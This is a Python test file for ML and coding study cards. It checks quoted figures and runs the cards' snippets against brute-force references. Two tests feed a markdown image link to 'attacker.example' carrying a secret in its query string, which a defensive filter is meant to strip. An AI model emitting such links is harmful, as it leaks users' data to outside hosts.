    contains(cid, f"{chinchilla_loss(70e9, 1.4e12):.3f}", f"{chinchilla_loss(280e9, 300e9):.3f}")
    contains(cid, f"{CHIN['A'] / 70e9**0.34:.3f}", f"{CHIN['B'] / 1.4e12**0.28:.3f}")
    # The parametric fit's own optimum at this budget (scipy's bounded minimiser over log N): not 20 tokens/param
    from scipy.optimize import minimize_scalar

    best = minimize_scalar(lambda x: chinchilla_loss(10**x, c / (6 * 10**x)), bounds=(9, 12), method="bounded")
    n_fit = 10**best.x
    d_fit = c / (6 * n_fit)
    contains(cid, f"{n_fit / 1e9:.0f}B", f"{d_fit / 1e12:.1f}T", f"about {d_fit / n_fit:.0f} tokens per parameter")
    contains(cid, f"L \\approx {best.fun:.3f}", f"C^{{{CHIN['beta'] / (CHIN['alpha'] + CHIN['beta']):.2f}}}")
    assert 80 < d_fit / n_fit < 100


def test_overtraining_llama3_8b():
    cid = "scaling-laws/overtraining-for-inference"
    c = 6 * 8e9 * 15e12
    contains(cid, f"{c / 1e23:.1f}\\times10^{{23}}", f"{chinchilla_loss(8e9, 15e12):.3f}")
    contains(cid, f"{chinchilla_loss(70e9, 1.4e12):.3f}", f"{6 * 70e9 * 1.4e12 / 1e23:.1f}\\times10^{{23}}")
    contains(cid, f"{70 / 8:.2f}×")


def test_initial_loss_ln_v():
    contains("llm-lineage-capabilities/gpt-recipe", f"{math.log(50257):.3f}")


def test_tokens_per_param_and_mfu():
    cid = "pretraining-practice/tokens-per-parameter"
    contains(cid, f"**{1.4e12 / 70e9:.0f}**", f"**{300 / 175:.1f}**", f"**{15e12 / 8e9:,.0f}**")
    flops = 6 * 7e9 * 3000
    contains(
        "pretraining-practice/mfu",
        f"{flops / 1e14:.2f}\\times10^{{14}}",
        f"{flops / 1e12:.0f} TFLOP/s",
        f"**MFU ≈ {flops / 312e12 * 100:.0f}%**",
    )


# ------------------------------------------------------------------------------------------------- eval-safety


def test_ece_example():
    conf = np.array([0.95] * 5 + [0.65] * 5)
    correct = np.array([1, 1, 1, 1, 0, 1, 1, 1, 0, 0])
    edges = np.linspace(0, 1, 16)  # 15 equal-width bins
    idx = np.digitize(conf, edges[1:-1])
    ece = sum((idx == b).mean() * abs(correct[idx == b].mean() - conf[idx == b].mean()) for b in np.unique(idx))
    contains("calibration-metrics/ece", f"ECE $= 0.5\\cdot0.15 + 0.5\\cdot0.05 = {ece:.2f}$")


def test_temperature_keeps_argmax():
    rng = np.random.default_rng(0)
    z = rng.normal(size=(50, 7))
    for t in (0.5, 1.7, 3.0):
        assert (np.argmax(z / t, 1) == np.argmax(z, 1)).all()


def test_pass_at_k_values():
    n, c = 10, 3
    est = lambda k: 1 - math.comb(n - c, k) / math.comb(n, k)  # noqa: E731
    prod = lambda k: 1 - np.prod([1 - k / i for i in range(n - c + 1, n + 1)])  # noqa: E731
    assert math.isclose(est(5), prod(5)) and math.isclose(est(1), c / n)
    cid = "calibration-metrics/pass-at-k"
    contains(cid, f"{math.comb(7, 5)}/{math.comb(10, 5)} \\approx {est(5):.3f}", f"{1 - 0.7**5:.3f}")
    assert 1 - math.comb(2, 5) / math.comb(10, 5) == 1.0  # n - c < k gives 1


def test_pr_auc_chance_and_ap_vs_trapezoid():
    from sklearn.metrics import auc, average_precision_score, precision_recall_curve, roc_auc_score

    rng = np.random.default_rng(0)
    y = (rng.random(200_000) < 0.01).astype(int)
    s = rng.random(y.size)
    assert abs(average_precision_score(y, s) - 0.01) < 0.003 and abs(roc_auc_score(y, s) - 0.5) < 0.02
    y2, s2 = np.array([1, 0, 1, 0, 0, 1]), np.array([0.9, 0.8, 0.7, 0.6, 0.5, 0.4])
    p, r, _ = precision_recall_curve(y2, s2)
    assert not math.isclose(average_precision_score(y2, s2), auc(r, p))
    contains("calibration-metrics/imbalanced-metrics", "about **0.01**")


def test_benchmark_uncertainty_numbers():
    from scipy.stats import binomtest

    se = math.sqrt(0.82 * 0.18 / 200)
    cid = "calibration-metrics/benchmark-uncertainty"
    contains(cid, f"\\approx {se:.3f}", f"±{1.96 * se * 100:.1f} points")
    p = binomtest(14, 34, 0.5).pvalue
    contains(cid, f"around {p:.2f}")
    assert (20 - 14) / 200 == 0.03


def test_self_consistency_majority():
    from scipy.stats import binom

    p5 = binom.sf(2, 5, 0.6)
    p15 = binom.sf(7, 15, 0.6)
    contains("llm-risks/self-consistency", f"\\approx {p5:.3f}", f"about {p15:.3f}")
    contains("llm-risks/self-consistency", " + ".join(f"{binom.pmf(k, 5, 0.6):.4f}" for k in (3, 4, 5)))


def test_f1_threshold_example():
    def f1(tp, fp, pos=60):
        p, r = tp / (tp + fp), tp / pos
        return 2 * p * r / (p + r)

    contains("calibration-metrics/f1-threshold", f"= {f1(30, 10):.1f}", f"\\approx {f1(45, 35):.3f}")
    assert f1(45, 35) > f1(30, 10)


def test_exfil_filter_sketch():
    import re
    from urllib.parse import urlparse

    img = re.compile(r"!\[[^\]]*\]\(\s*([^)\s]+)[^)]*\)")
    md = "ok ![x](https://attacker.example/log?d=secret) ![y](https://cdn.good.com/a.png)"

    def keep(m):
        host = urlparse(m.group(1)).hostname or ""
        return m.group(0) if host in {"cdn.good.com"} else "[image removed]"

    out = img.sub(keep, md)
    assert "attacker" not in out and "cdn.good.com" in out


# --------------------------------------------------------------------------------------------- coding-patterns


def test_climb_stairs_negative_index_bug():
    def buggy(n):
        dp = [1] * (n + 1)
        for i in range(1, n + 1):
            dp[i] = dp[i - 1] + dp[i - 2]
        return dp

    def ref(n):
        a, b = 1, 1
        for _ in range(2, n + 1):
            a, b = b, a + b
        return b if n >= 1 else 1

    d = buggy(3)
    assert d[1:] == [2, 3, 5] and ref(3) == 3
    contains("graph-dp-heap-patterns/dp-base-cases", "`dp[1] = 1 + 1 = 2`", "`dp[2] = 3`", "`dp[3] = 5`")
    assert [ref(n) for n in (1, 2, 3, 5)] == [1, 2, 3, 8]
    contains("graph-dp-heap-patterns/dp-base-cases", "give 1, 2, 3, 8")


def test_lis_examples():
    from bisect import bisect_left

    def lis(a):
        tails = []
        for x in a:
            k = bisect_left(tails, x)
            tails[k : k + 1] = [x]
        return tails

    assert lis([3, 4, 1]) == [1, 4]
    assert len(lis([10, 9, 2, 5, 3, 7, 101, 18])) == 4
    contains("graph-dp-heap-patterns/lis-patience", "[1, 4]", "gives 4")


def test_sliding_window_examples():
    def lus(s, guarded=True):
        last, best, l = {}, 0, 0
        for r, ch in enumerate(s):
            if ch in last and (last[ch] >= l or not guarded):
                l = last[ch] + 1
            last[ch] = r
            best = max(best, r - l + 1)
        return best

    assert lus("abcabcbb") == 3 and lus("abba") == 2 and lus("abba", guarded=False) == 3
    contains("array-patterns/sliding-window", '"abcabcbb" gives 3')
    trap_contains("array-patterns/sliding-window", '("abba" gives 3 instead of 2)')


def test_three_sum_and_merge_examples():
    import bisect
    import itertools

    nums = [-1, -1, 0, 0, 1, 1]
    assert {tuple(sorted(t)) for t in itertools.combinations(nums, 3) if sum(t) == 0} == {(-1, 0, 1)}
    a = [1, 3, 3, 5]
    assert bisect.bisect_left(a, 6) == len(a)  # lower_bound can return len(a)
    merged = []
    for s, e in sorted([[1, 2], [2, 3], [1, 10], [2, 3]]):
        if merged and s <= merged[-1][1]:
            merged[-1][1] = max(merged[-1][1], e)
        else:
            merged.append([s, e])
    assert merged == [[1, 10]]


def test_pattern_selection_numbers():
    import sys

    contains("pattern-selection/constraints-to-complexity", f"{1e5 * math.log2(1e5) / 1e6:.1f}\\times10^6")
    assert round(math.log2(1e5)) == 17
    assert sys.getrecursionlimit() >= 1000
    contains("pattern-selection/dfs-recursion-limit", "**1,000** frames")


def test_window_breaks_with_negatives():
    def window(a, target):
        best, l, s = float("inf"), 0, 0
        for r, x in enumerate(a):
            s += x
            while s >= target:
                best = min(best, r - l + 1)
                s -= a[l]
                l += 1
        return best

    a, t = [84, -37, 32, 40, 95], 167
    brute = min(j - i for i in range(len(a)) for j in range(i + 1, len(a) + 1) if sum(a[i:j]) >= t)
    assert (window(a, t), brute) == (5, 3)
    trap_contains("pattern-selection/recognize-pattern", "returns 5 instead of 3")


def test_rotated_search_and_ship_capacity_and_min_window():
    from collections import Counter

    def search_rotated(a, target):
        lo, hi = 0, len(a) - 1
        while lo <= hi:
            mid = (lo + hi) // 2
            if a[mid] == target:
                return mid
            if a[lo] <= a[mid]:
                if a[lo] <= target < a[mid]:
                    hi = mid - 1
                else:
                    lo = mid + 1
            elif a[mid] < target <= a[hi]:
                lo = mid + 1
            else:
                hi = mid - 1
        return -1

    for n in range(0, 7):
        base = list(range(0, 2 * n, 2))
        for k in range(max(n, 1)):
            a = base[k:] + base[:k]
            for t in range(-1, 2 * n + 1):
                assert search_rotated(a, t) == (a.index(t) if t in a else -1)

    def ship(w, d):
        def feasible(c):
            days, load = 1, 0
            for x in w:
                if load + x > c:
                    days, load = days + 1, 0
                load += x
            return days <= d

        return next(c for c in range(max(w), sum(w) + 1) if feasible(c))

    assert ship([1, 2, 3, 4, 5, 6, 7, 8, 9, 10], 5) == 15

    def min_window(s, t):
        need, missing = Counter(t), len(t)
        best, l = (0, float("inf")), 0
        for r, ch in enumerate(s):
            if need[ch] > 0:
                missing -= 1
            need[ch] -= 1
            while missing == 0:
                if r - l < best[1] - best[0]:
                    best = (l, r)
                need[s[l]] += 1
                if need[s[l]] > 0:
                    missing += 1
                l += 1
        return "" if best[1] == float("inf") else s[best[0] : best[1] + 1]

    assert min_window("ADOBECODEBANC", "ABC") == "BANC"
    contains("pattern-selection/min-window-substring", 'gives "BANC"')


def test_followups_resolve_without_cycles():
    cards = all_cards()
    state: dict[str, int] = {}

    def visit(cid: str, path: tuple) -> None:
        state[cid] = 1
        for f in cards[cid].get("followups", []):
            assert f in cards, f"{cid}: followup {f} missing"
            assert state.get(f) != 1, "cycle: " + " -> ".join((*path, cid, f))
            if f not in state:
                visit(f, (*path, cid))
        state[cid] = 2

    for cid in cards:
        if cid not in state:
            visit(cid, ())


def test_shares_per_area():
    for area in AREAS:
        cards = [c for p in FILES if p.parent.name == area for c in load(p)["cards"]]
        n = len(cards)
        assert sum(c["level"] == "L3" for c in cards) / n >= 0.25, area
        assert sum(bool(c.get("followups")) for c in cards) / n >= 0.40, area


# ------------------------------------------------------------------- code in answers runs and matches brute force


def run_code(card_id: str, first_only: bool = False) -> dict:
    """Execute the ```python blocks of the card's answer (or only the first) and return the namespace."""
    blocks = re.findall(r"```python\n(.*?)```", all_cards()[card_id]["answer"], flags=re.S)
    blocks = blocks[:1] if first_only else blocks
    assert blocks, f"{card_id}: no python block"
    import torch
    import torch.nn.functional as F

    ns: dict = {"np": np, "torch": torch, "F": F}  # the usual imports a snippet assumes
    for b in blocks:
        exec(compile(b, card_id, "exec"), ns)
    return ns


def test_array_pattern_snippets_against_brute_force():
    import bisect
    import itertools
    import random

    rnd = random.Random(0)
    three_sum = run_code("array-patterns/three-sum")["three_sum"]
    two_sum = run_code("array-patterns/two-sum-hash")["two_sum"]
    lower_bound = run_code("array-patterns/binary-search-bounds")["lower_bound"]
    next_greater = run_code("array-patterns/monotonic-stack")["next_greater"]
    merge = run_code("array-patterns/merge-intervals")["merge_intervals"]
    lus = run_code("array-patterns/sliding-window")["longest_unique_substring"]
    for _ in range(200):
        a = [rnd.randint(-4, 4) for _ in range(rnd.randint(0, 9))]
        brute = {tuple(sorted(t)) for t in itertools.combinations(a, 3) if sum(t) == 0}
        got = three_sum(a)
        assert len(got) == len(brute) and {tuple(t) for t in got} == brute
        t = rnd.randint(-6, 6)
        res = two_sum(a, t)
        has = any(a[i] + a[j] == t for i in range(len(a)) for j in range(i + 1, len(a)))
        assert (res is not None) == has and (res is None or (res[0] != res[1] and a[res[0]] + a[res[1]] == t))
        s = sorted(a)
        assert lower_bound(s, t) == bisect.bisect_left(s, t)
        ng = [next((y for y in a[i + 1 :] if y > x), -1) for i, x in enumerate(a)]
        assert next_greater(a) == ng
        iv = [[x, x + rnd.randint(0, 3)] for x in (rnd.randint(0, 12) for _ in range(rnd.randint(0, 6)))]
        covered = {p for s_, e in iv for p in range(2 * s_, 2 * e + 1)}  # doubled grid: touching merges
        merged = merge([list(x) for x in iv])
        assert {p for s_, e in merged for p in range(2 * s_, 2 * e + 1)} == covered
        assert all(merged[i][1] < merged[i + 1][0] for i in range(len(merged) - 1))
        word = "".join(rnd.choice("abc") for _ in range(rnd.randint(0, 8)))
        best = max(
            (j - i for i in range(len(word) + 1) for j in range(i, len(word) + 1) if len(set(word[i:j])) == j - i),
            default=0,
        )
        assert lus(word) == best


def test_graph_dp_heap_snippets():
    import graphlib
    import random
    import statistics

    rnd = random.Random(1)
    topo = run_code("graph-dp-heap-patterns/topo-sort-kahn")["topo_sort_kahn"]
    for _ in range(100):
        n = rnd.randint(1, 7)
        edges = [(rnd.randrange(n), rnd.randrange(n)) for _ in range(rnd.randint(0, 9))]
        order = topo(n, edges)
        ts = graphlib.TopologicalSorter({v: set() for v in range(n)})
        for a, b in edges:
            ts.add(b, a)
        try:
            list(ts.static_order())
            cyclic = False
        except graphlib.CycleError:
            cyclic = True
        assert (order is None) == cyclic
        if order is not None:
            pos = {v: i for i, v in enumerate(order)}
            assert sorted(order) == list(range(n)) and all(pos[a] < pos[b] for a, b in edges)
    mf_cls = run_code("graph-dp-heap-patterns/two-heaps-median")["MedianFinder"]
    mf, seen = mf_cls(), []
    for _ in range(60):
        x = rnd.randint(-20, 20)
        mf.add(x)
        seen.append(x)
        assert mf.median() == statistics.median(seen)
    lis = run_code("graph-dp-heap-patterns/lis-patience")["lis_patience"]
    for _ in range(100):
        a = [rnd.randint(0, 6) for _ in range(rnd.randint(0, 8))]
        import itertools

        brute = max(
            (
                len(c)
                for r in range(len(a) + 1)
                for c in itertools.combinations(a, r)
                if all(x < y for x, y in itertools.pairwise(c))
            ),
            default=0,
        )
        assert lis(a) == brute
    climb = run_code("graph-dp-heap-patterns/dp-base-cases")["climb_stairs"]
    ways = run_code("pattern-selection/memo-vs-tabulation")["ways"]
    assert [climb(n) for n in range(1, 10)] == [ways(n) for n in range(1, 10)] == [1, 2, 3, 5, 8, 13, 21, 34, 55]

    class Node:
        def __init__(self, val, left=None, right=None):
            self.val, self.left, self.right = val, left, right

    ns = run_code("graph-dp-heap-patterns/bfs-level-order", first_only=True)
    root = Node(1, Node(2, Node(4)), Node(3, None, Node(5)))
    assert ns["level_order"](root) == [[1], [2, 3], [4, 5]] and ns["level_order"](None) == []


def test_pattern_selection_snippets():
    import random

    rnd = random.Random(2)
    min_len = run_code("pattern-selection/recognize-pattern")["min_len"]
    ship = run_code("pattern-selection/binary-search-on-answer")["ship_within_days"]
    search = run_code("pattern-selection/rotated-search")["search_rotated"]
    top_k = run_code("pattern-selection/heap-top-k")["top_k"]
    min_window = run_code("pattern-selection/min-window-substring")["min_window"]
    count = run_code("pattern-selection/dfs-recursion-limit")["count_components"]
    for _ in range(150):
        a = [rnd.randint(1, 9) for _ in range(rnd.randint(1, 8))]
        t = rnd.randint(1, 30)
        brute = min((j - i for i in range(len(a)) for j in range(i + 1, len(a) + 1) if sum(a[i:j]) >= t), default=0)
        assert min_len(a, t) == brute
        d = rnd.randint(1, len(a))

        def days_needed(c, a=a):
            days, load = 1, 0
            for x in a:
                if load + x > c:
                    days, load = days + 1, 0
                load += x
            return days

        assert ship(a, d) == next(c for c in range(max(a), sum(a) + 1) if days_needed(c) <= d)
        base = sorted(rnd.sample(range(30), rnd.randint(0, 7)))
        k = rnd.randint(0, max(len(base) - 1, 0))
        rot = base[k:] + base[:k]
        for q in range(-1, 31):
            assert search(rot, q) == (rot.index(q) if q in rot else -1)
        kk = rnd.randint(1, len(a))
        assert top_k(a, kk) == sorted(a, reverse=True)[:kk]
        s = "".join(rnd.choice("ab c") for _ in range(rnd.randint(1, 9)))
        tt = "".join(rnd.choice("abc") for _ in range(rnd.randint(1, 3)))
        from collections import Counter

        ok = [(j - i, i) for i in range(len(s)) for j in range(i + 1, len(s) + 1) if not Counter(tt) - Counter(s[i:j])]
        got = min_window(s, tt)
        assert len(got) == (min(ok)[0] if ok else 0) and not (Counter(tt) - Counter(got) if got else ok)
    n = 100_000
    adj = [[] for _ in range(n)]
    for i in range(n - 1):
        adj[i].append(i + 1)
        adj[i + 1].append(i)
    assert count(n, adj) == 1  # a 100,000-node path: no recursion limit


def test_nlp_and_rag_snippets():
    bio = run_code("nlp-tasks-eval/bio-decoding")["bio_spans"]
    assert bio(["B-PER", "I-PER", "O", "I-LOC", "B-LOC", "I-PER"]) == [
        ("PER", 0, 2),
        ("LOC", 3, 4),
        ("LOC", 4, 5),
        ("PER", 5, 6),
    ]
    best_span = run_code("nlp-tasks-eval/best-span")["best_span"]
    start, end = np.array([0.0, 5.0, 0.0, 0.0]), np.array([6.0, 0.0, 0.0, 2.0])
    assert best_span(start, end) == (1, 3) and best_span(start, end, max_len=2) == (0, 0)
    pack = run_code("rag-advanced/context-packing")["pack_context"]
    toks = lambda s: len(s.split())  # noqa: E731
    chunks = [("a", "w " * 6), ("b", "x " * 5), ("c", "W  " * 6), ("d", "y " * 2)]
    out = pack(chunks, budget=10, count_tokens=toks)
    assert [c for c, _ in out] == ["a", "d"] and sum(toks(t) for _, t in out) <= 10
    ns = run_code("llm-risks/markdown-exfiltration")
    md = "see ![x](https://attacker.example/log?d=secret) and ![ok](https://cdn.good.com/a.png)"
    out = ns["block_exfil_urls"](md, {"cdn.good.com"})
    assert "attacker" not in out and "cdn.good.com/a.png" in out


def test_numeric_snippets():
    import torch
    import torch.nn.functional as F

    ns = run_code("logistic-regression/stable-loss")
    z = np.array([-1000.0, -5.0, 0.0, 5.0, 1000.0])
    with np.errstate(over="ignore"):
        ref = 1 / (1 + np.exp(-z))
    assert np.allclose(ns["sigmoid"](z), ref) and np.isfinite(ns["sigmoid"](z)).all()
    y = np.array([1.0, 0.0, 1.0, 1.0, 0.0])
    tl = F.binary_cross_entropy_with_logits(torch.tensor(z), torch.tensor(y)).item()
    assert math.isclose(ns["log_loss_from_logits"](z, y), tl, rel_tol=1e-9)
    clip = run_code("word-embeddings-clip/clip-loss")
    g = torch.Generator().manual_seed(0)
    img, txt = torch.randn(6, 4, generator=g), torch.randn(6, 4, generator=g)
    scale = torch.tensor(math.log(1 / 0.07))
    loss = clip["clip_loss"](img, txt, scale)
    logits = (1 / 0.07) * F.normalize(img, dim=-1) @ F.normalize(txt, dim=-1).T
    manual = -(torch.log_softmax(logits, 1).diag().mean() + torch.log_softmax(logits, 0).diag().mean()) / 2
    assert torch.allclose(loss, manual, atol=1e-5)
